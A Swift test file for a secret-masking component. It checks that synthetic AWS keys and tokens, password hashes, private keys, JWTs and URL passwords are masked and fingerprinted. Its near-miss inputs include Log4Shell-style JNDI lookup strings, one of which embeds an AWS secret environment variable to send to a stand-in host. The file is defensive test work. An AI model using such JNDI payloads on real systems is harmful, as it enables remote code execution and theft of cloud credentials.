import Evidence
import Testing

@testable import Timeline

@Suite("Secrets")
struct SecretMaskTests {
  private static let key = "abcdEFGH1234/abcdEFGH1234+abcdEFGH123456"

  private func mask(_ text: String) -> (text: String, kinds: [Exposure.Kind]) {
    var kinds: [Exposure.Kind] = []
    let masked = SecretMask.mask(text) { kind, _ in kinds.append(kind) }
    return (masked ?? text, kinds)
  }

  @Test(
    "Each kind is taken out and named",
    arguments: [
      ("\"SecretAccessKey\" : \"\(key)\"", key, Exposure.Kind.awsSecretKey),
      ("export AWS_SECRET_ACCESS_KEY=\(key)", key, .awsSecretKey),
      ("SessionToken\":\"\(String(repeating: "aB3/", count: 40))\"", "aB3/aB3/", .awsSessionToken),
      ("token IQoJ\(String(repeating: "b3JpZ2lu", count: 20)) end", "b3JpZ2lub3", .awsSessionToken),
      ("admin:$6$saltsalt$\(String(repeating: "Ab./", count: 21)):19000:", "Ab./Ab", .passwordHash),
      ("root:$y$j9T$saltsaltsalt$\(String(repeating: "x", count: 43)):1", "xxxxxx", .passwordHash),
      ("-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----", "MIIEow", .privateKey),
      ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk", "b3BlbnNzaC1rZXk", .privateKey),
      ("auth eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abcdefghijk_lmnop", "abcdefghijk", .webToken),
      ("clone https://x:ghp_\(String(repeating: "a1", count: 18))@example.org/", "a1a1a1", .urlPassword),
      ("jdbc:mysql://app:S3cret!@10.0.3.30:3306/x", "S3cret", .urlPassword),
    ])
  func masked(text: String, secret: String, kind: Exposure.Kind) {
    let made = mask(text)
    #expect(!made.text.contains(secret))
    #expect(made.text.contains("[masked "))
    #expect(made.kinds.first == kind)
    #expect(SecretMask.isNeeded(text))
  }

  @Test(
    "Near misses stay as they are",
    arguments: [
      "AKIAIOSFODNN7EXAMPLE", "ASIA3XFRBF53EXAMPLE7 used", "price $5 and $1$", "echo $1 $6", "secret_access_key=",
      "-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----x",
      "eyJhbGciOiJub25lIn0",
      "${jndi:ldap://203.0.113.66:1389/a}", "http://203.0.113.66:8000/a@b", "ldap://host:389/@x", "IQoJshort", "",
      "aws sts get-session-token", "${jndi:ldap://x:${env:AWS_SECRET_ACCESS_KEY}@203.0.113.66/}",
    ])
  func kept(text: String) {
    #expect(mask(text).text == text)
    #expect(!SecretMask.isNeeded(text))
  }

  @Test("The same secret has the same fingerprint in two places, and only the first place of an artifact is listed")
  func fingerprints() {
    var list = ExposureList()
    let artifact = CaseSamples.artifact("x")
    for line in [9, 3, 5] {
      let event = Event(
        time: nil, dataType: "x", message: "aws_secret_access_key = \(Self.key)", locator: CaseSamples.line(line))
      #expect(!SecretMask.mask(event, in: artifact, into: &list).message.contains(Self.key))
    }
    #expect(list.sorted.count == 1)
    #expect(list.sorted.first?.locator.line == 3)
  }

  @Test("Attributes, lists and findings are masked too, and a finding keeps its id")
  func everywhere() {
    var list = ExposureList()
    var finding = CaseSamples.payload(1)
    finding.attributes.add("all", ["x", "SecretAccessKey=\(Self.key)"])
    let masked = SecretMask.mask(finding, into: &list)
    #expect(masked["all"]?.text.contains(Self.key) == false)
    #expect(masked.id == finding.id)
    #expect(list.sorted.map(\.kind) == [.awsSecretKey])
  }
}
